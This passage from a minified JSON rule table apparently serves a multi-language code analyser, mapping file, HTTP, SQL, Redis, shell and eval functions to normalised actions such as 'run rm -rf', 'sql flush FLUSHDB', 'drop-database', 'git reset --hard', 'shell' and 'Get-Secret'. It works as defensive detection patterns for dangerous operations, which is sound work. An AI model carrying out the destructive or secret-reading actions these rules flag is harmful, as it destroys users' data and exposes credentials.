-json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:form","Faraday.post":"request PO\
-ST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body $:json $:form","Excon.post":"r\
-equest POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELETE $0","Faraday.delete":"reques\
-t DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoeus.delete":"request DELETE $0",\
-"Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"value $0","File.expand_path":"value\
- $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.foreach":"read $0","File.binread\
-":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.\
-remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run\
- rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm \
--rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.\
-cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0\
- $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"\
-join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"cal\
-ls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back fol\
-der $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"m\
-ethods":{"write":"send $self $0","puts":"send $self $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_qu\
-ery":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"m\
-essage $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-name call\
-s-back made rows","update_all":"if-name run sql update-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if\
--sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made\
-:docker-volume run docker volume rm $self","open":"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if\
--made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows\
- | if-name if-kept run sql delete-all $owner | run sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows\
- | if-gets:keys run sql flush FLUSHDB | if-database if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSH\
-DB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"va\
-lue $self","clone":"value $self","compact":"value $self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value \
-$self","clear":"if-made:sidekiq run celery purge","database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-da\
-tabase db","exec!":"if-made:ssh shell $0","eval":"if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","modul\
-e_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-al\
-l rows","reset":"if-says:^hard$ if-args:2 run git reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"call\
-s-back if-stored entries keys","rmtree":"if-text run rm -rf $self","children":"folder $self","each_child":"folder $self","read":"lines $self","gets":"if-list an\
-y-of $self","shift":"if-list any-of $self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 $1","each_pair":"if-map pairs $self","values":"if-m\
-ap values $self","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true\
-,"quoting":"none","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_cal\
-ls":false,"function_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"texts":{"os.pwd":".","os.home\
-":"~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDire\
-ctory":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"rewrites":[["^(?:(?:std\
-|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","console.log"\
-:"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all","table.c\
-oncat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value $all","\
-List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asList":"valu\
-e $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"value $all"\
-,"IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"value $0\
-","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPath":"valu\
-e $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $\
-0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","opendir":"v\
-alue $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"value $0"\
-,"Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Pa\
-th.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":"join $a\
-ll","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"join $all",\
-"path_join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","homedir":"v\
-alue ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurrentUser":"\
-value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value .","env.cu\
-rrent_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"environm\
-ent $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0","make_\
-temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tempdir":"v\
-alue /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"value /t\
-mp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempfile.Buil\
-der.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\ufffc","cre\
-ateTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\ufffc","o\
-s.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync":"value\
- /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\ufffc","Pa\
-th.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create":"value \
-/tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0","fs.re\
-move_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","os.remov\
-e.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","vim.loop\
-.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0","delete_\
-file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.remove_a\
-ll":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceDelete":"\
-run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $0","dir_\
-delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run rm -rf \
-$0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tree":"run \
-rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","lfs.rmdir":"run\
- rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0","syste\
-m":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.exec":"\
-shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell $0","sh\
-ell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0","run":"\
-shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"program $all","exec.Command":"prog\
-ram $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","System.cm\
-d":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute $0 $1.\
-.","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 $1","w\
-riteFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.write":"\
-write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","writeLi\
-nes":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-opt\
-ion:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","o\
-s.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0"\
-,"fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllTex\
-t":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0","String.contentsOfFile":"rea\
-d $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string":"read \
-$0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_files":"f\
-older $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0","direct\
-ory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"folder $0 be\
-low","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.WalkDir":"c\
-alls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","filepath.Glo\
-b":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dirname":"d\
-irname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format $0 $1..\
-","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split":"split \
-$0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $1 $0","T\
-ask.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"map $0 $1\
-","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | s\
-ql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.query":"s\
-ql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"s\
-ql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mnesia.dele\
-te_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"eval $2",\
-"http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.get":"requ\
-est GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0 $1 $:bo\
-dy","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request POST $0 $1\
- $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $0","jenk\
-insItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"value $se\
-lf","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_iter":"va\
-lue $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value $self","\
-clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toString":"val\
-ue $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self","filter_\
-entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $self","n\
-ormalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $self","mi\
-n_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self","into":"\
-value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-text if-option:\
-recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-stored entrie\
-s keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database db","dr\
-opDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"if-list \
-shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if-list sh\
-ell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","args":"conc\
-atenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm -rf $sel\
-f","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run cloud-sdk\
- delete","getPlainText":"run Get-Secret","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm -r $sel\
-f","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0","appending":"join $self $0","child":"join $self\
- $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"folder $self","children":"folder $self","read_dir\
-":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:atPath",\
-"enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self $0","writeAsStringSync":"write $self\
- $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self w","bufferedWriter":"open $self w",\
-"writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync":"read $self","readBytes":"read $sel\
-f","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0","puts":"send $self $0","POST":"send\
- $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made request $0","Exec":"sql $0 | sql $1","Ex\
-ecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","executeUpdate\
-":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sql $1","p\
-repare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQuery":"s\
-ql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*\
-?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)?att\
-ributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\\
-s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d\
-+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\bre\
-turn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*\
-(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} else {"]\
-,["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:library|\
-require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr)::",""],["\\\\bunlink\\\\b","rm_r\
-f"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["\
-([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?\
-!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]\
-*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2\
-)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]\
-])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\b\
-foreach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem\
-|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,\
-]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*\
-),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\
-\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\\
-s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^\
-()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bf\
-unction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]\
-*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}\
-|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))\
-","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]\
-+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]\
